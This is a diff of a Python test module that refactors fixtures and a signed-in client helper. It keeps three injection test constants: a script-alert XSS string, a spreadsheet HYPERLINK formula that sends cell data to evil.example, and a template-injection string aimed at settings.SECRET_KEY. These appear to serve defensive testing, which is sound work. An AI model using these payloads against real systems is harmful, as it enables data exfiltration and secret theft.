@@ -20,23 +20,13 @@ from gonghui.kernel.attachments.keeping import attach, kind_of, of
 from gonghui.kernel.audit.acting import acting
 from gonghui.kernel.ledger.declaration import REGISTRY
 from gonghui.kernel.web.columns import columns
-from tests.generic.world import World, build, fill
+from tests.generic.hands import signed_in
+from tests.generic.world import World, fill
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 TEMPLATE = "{{ settings.SECRET_KEY }}{% load i18n %}{{7*7}}${7*7}#{7*7}"
 PETITIONS = REGISTRY["petitions"]
-
-
-@pytest.fixture
-def world(db: Any) -> World:
-    return build()
-
-
-def signed_in(user: Any) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 # --- identifiers of others --------------------------------------------------------------------------------------------
